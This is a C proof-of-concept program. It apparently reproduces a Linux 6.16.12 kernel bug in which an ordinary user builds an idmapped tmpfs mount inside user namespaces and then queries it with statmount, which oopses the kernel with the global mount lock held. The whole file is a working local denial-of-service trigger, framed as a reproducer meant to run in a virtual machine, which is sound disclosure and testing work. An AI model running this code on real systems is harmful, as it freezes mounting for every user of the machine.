// An ordinary user stops all mounts of Linux 6.16.12: statmount(2) with STATMOUNT_MNT_UIDMAP of an
// idmapped mount oopses with the lock of all mount namespaces held.
//
//   cc -Wall statmount-6.16.c -o statmount && ./statmount
//
// Run it in a virtual machine. Other kernels print the map, "7 0 1", or that they lack it.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

// What libc may not have yet; of linux/mount.h and linux/stat.h.
#define OPEN_TREE 428
#define MOVE_MOUNT 429
#define MOUNT_SETATTR 442
#define STATMOUNT 457
#define ATTR_IDMAP 0x100000
#define MNT_UIDMAP 0x2000
#define MNT_ID_UNIQUE 0x4000

struct attributes {
  uint64_t set, clear, propagation, userns;
};
struct request {
  uint32_t size, spare;
  uint64_t mount, param;
};
struct status {
  uint64_t size, mask;
  char more[140];
  uint32_t uid_map;
  char spare[352], texts[3584];
};

static void must(int ok, const char* what) {
  if (ok) return;
  perror(what);
  exit(2);
}

static void put(const char* path, const char* text) {
  int fd = open(path, O_WRONLY);
  must(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text), path);
  close(fd);
}

// A user namespace in which the file system's id 7 is what 0 is outside.
static int mapped_namespace(void) {
  int made[2];
  must(pipe(made) == 0, "pipe");
  pid_t child = fork();
  must(child >= 0, "fork");
  if (child == 0) {
    must(unshare(CLONE_NEWUSER) == 0, "unshare(CLONE_NEWUSER) in the child");
    must(write(made[1], "", 1) == 1, "write");
    pause();
  }
  close(made[1]);
  char byte, path[64];
  must(read(made[0], &byte, 1) == 1, "read");
  for (int groups = 0; groups < 2; ++groups) {
    snprintf(path, sizeof path, "/proc/%d/%s", child, groups ? "gid_map" : "uid_map");
    put(path, "7 0 1");
  }
  snprintf(path, sizeof path, "/proc/%d/ns/user", child);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  must(fd >= 0, path);
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
  return fd;
}

int main(void) {
  char users[32], groups[32];
  snprintf(users, sizeof users, "0 %d 1", geteuid());
  snprintf(groups, sizeof groups, "0 %d 1", getegid());
  must(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "unshare(CLONE_NEWUSER | CLONE_NEWNS)");
  put("/proc/self/uid_map", users);
  put("/proc/self/setgroups", "deny");
  put("/proc/self/gid_map", groups);
  must(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0, "mount(MS_PRIVATE)");
  must(mount("a", "/tmp", "tmpfs", 0, NULL) == 0, "mount(tmpfs)");

  int tree = syscall(OPEN_TREE, AT_FDCWD, "/tmp", OPEN_TREE_CLONE);
  must(tree >= 0, "open_tree");
  struct attributes idmap = {ATTR_IDMAP, 0, 0, mapped_namespace()};
  must(syscall(MOUNT_SETATTR, tree, "", AT_EMPTY_PATH, &idmap, sizeof idmap) == 0, "mount_setattr");
  must(syscall(MOVE_MOUNT, tree, "", AT_FDCWD, "/tmp", MOVE_MOUNT_F_EMPTY_PATH) == 0, "move_mount");

  struct statx st;
  must(syscall(SYS_statx, tree, "", AT_EMPTY_PATH, MNT_ID_UNIQUE, &st) == 0, "statx");
  struct request request = {sizeof request, 0, st.stx_mnt_id, MNT_UIDMAP};
  struct status status = {0};
  puts("statmount(STATMOUNT_MNT_UIDMAP) of an idmapped mount:");
  fflush(stdout);
  must(syscall(STATMOUNT, &request, &status, sizeof status, 0) == 0, "statmount");
  if (!(status.mask & MNT_UIDMAP)) return puts("this kernel does not tell maps"), 0;
  puts(status.texts + status.uid_map);
  return 0;
}
